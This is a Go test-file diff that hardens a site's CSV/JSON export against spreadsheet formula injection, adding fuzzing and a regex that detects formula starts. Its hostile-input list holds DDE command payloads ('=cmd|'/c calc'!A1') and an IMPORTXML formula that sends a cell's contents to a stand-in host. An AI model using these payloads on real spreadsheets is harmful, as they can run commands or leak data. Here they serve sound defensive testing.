@@ -4,14 +4,20 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"regexp"
+	"slices"
 	"strings"
 	"testing"
+	"time"
+	"unicode"
 
 	"github.com/google/go-cmp/cmp"
 
 	"tract/internal/config"
 	"tract/internal/content"
 	"tract/internal/locale"
+	"tract/internal/payload"
+	"tract/internal/promise"
 	"tract/internal/schema"
 	"tract/internal/site"
 )
@@ -21,6 +27,8 @@ var hostile = []string{
 	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|'/c calc'!A1", `=HYPERLINK("http://x.example","y")`, "-2+3+cmd|'/c calc'!A1", "=\"=\"", "'=1", " =1",
 	`a"b`, `""`, `"`, "a,b", "a;b", "a\nb", "a\r\nb", "a\rb", "a\tb", "\x00", "a\x00b", "\x1b[31m", "\x7f", "\u2028", "\u202eabc", "\u200f", "\ufeff", "e\u0301",
 	"</script><script>", "<!--", "]]>", "&amp;", "{{.}}", "\\", "\\n", "\\u003c", "été « œuvre »", "مقاطعة", "🏴‍☠️", "", " ", "null", "1e9", "-1,5",
+	"a;=1+1", "a; =1", "a\t=1", "a\n=1", "a\r\n@x", "\ufeff=1", "\x00=1", "\x1b=1", "\u0085=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "a;＝1", `";=1+1&"`, `",=1+1`, "\n-a\n-b", "a;;=1", "\t\t=1", ";=1", ";", "\t", "\xff=1", "=",
+	"+cmd|' /C calc'!A0", `=IMPORTXML(CONCAT("http://x.example/",A2),"//a")`, "%0A=1", "=1;=1", "@", "-", "'", "''=1", "a;\"=1+1&\"\nb", "a;\"\"=1", ";\"+1\";\"@x\"", "a\n\"-1", "\"=1",
 }
 
 func text(s string) locale.Text { return locale.Text{"fr": s, "en": s} }
@@ -66,30 +74,75 @@ func full(s string) *site.Site {
 	}
 }
 
-// TestHostileData puts each text into every field. No cell begins with what makes
-// a formula, and both forms come back whole.
-func TestHostileData(t *testing.T) {
-	want := Sets(full("x"))
+// TestX17Tables puts each text into every field of every set. No cell begins with what
+// makes a formula, nor does a part that a spreadsheet in French makes a cell of, and
+// both forms come back whole.
+func TestX17Tables(t *testing.T) {
+	cases := 0
+	each := 16
+	if promise.Whole() {
+		each = 1
+	}
+	for _, s := range slices.Concat(hostile, payload.Texts(t, each)) {
+		cases += judge(t, s)
+	}
+	promise.Held(t, cases)
+}
+
+// FuzzCSV does so with any text.
+func FuzzCSV(f *testing.F) {
 	for _, s := range hostile {
-		for i, set := range Sets(full(s)) {
-			wantRows, rows := cells(t, want[i]), cells(t, set)
-			if len(rows) != len(wantRows) || len(rows[0]) != len(wantRows[0]) {
-				t.Errorf("%q changes the shape of %s", s, set.Name)
-			}
-			for _, row := range rows {
-				for _, cell := range row {
-					if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
-						t.Errorf("%q: %s has the cell %q", s, set.Name, cell)
-					}
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		began := time.Now()
+		judge(t, s)
+		if took := time.Since(began); took > 2*time.Second {
+			t.Errorf("%d bytes took %s", len(s), took)
+		}
+		if got := harmless(s); len(got) > 3*len(s)+1 {
+			t.Errorf("%d bytes became %d", len(s), len(got))
+		}
+	})
+}
+
+// judge makes all sets of a site with s as each of its texts, and gives their number.
+func judge(t *testing.T, s string) int {
+	t.Helper()
+	want, sets := Sets(full("x")), Sets(full(s))
+	for i, set := range sets {
+		wantRows, rows := cells(t, want[i]), cells(t, set)
+		if len(rows) != len(wantRows) || len(rows[0]) != len(wantRows[0]) {
+			t.Errorf("%q changes the shape of %s", s, set.Name)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if formula(cell) {
+					t.Errorf("%q: %s has the cell %q", s, set.Name, cell)
 				}
 			}
-			src, err := set.JSON()
-			if err != nil || !json.Valid(src) {
-				t.Errorf("%q: %s: %v in %s", s, set.Name, err, src)
-			}
+		}
+		if src, err := set.CSV(); err != nil || anywhere.Match(src) {
+			t.Errorf("%q: %s begins a formula where another separator ends a cell: %q (%v)", s, set.Name, src, err)
+		}
+		src, err := set.JSON()
+		if err != nil || !json.Valid(src) {
+			t.Errorf("%q: %s: %v in %s", s, set.Name, err, src)
 		}
 	}
+	return len(sets)
 }
+
+// formula says whether a spreadsheet takes a cell for a formula, past what it does not
+// show.
+func formula(cell string) bool {
+	seen := strings.TrimFunc(cell, func(r rune) bool { return unicode.IsControl(r) || r == '\ufeff' })
+	return strings.IndexAny(cell, "=+-@\t\r\n") == 0 || strings.HasPrefix(cell, seen) && strings.IndexAny(seen, "=+-@＝＋－＠") == 0
+}
+
+// anywhere finds a formula after whatever some spreadsheet ends a cell at, in a file
+// whose quotation marks it takes for text.
+var anywhere = regexp.MustCompile("[;\t\r\n]\"*[=+@＝＋－＠-]")
 
 func cells(t *testing.T, set Set) [][]string {
 	t.Helper()
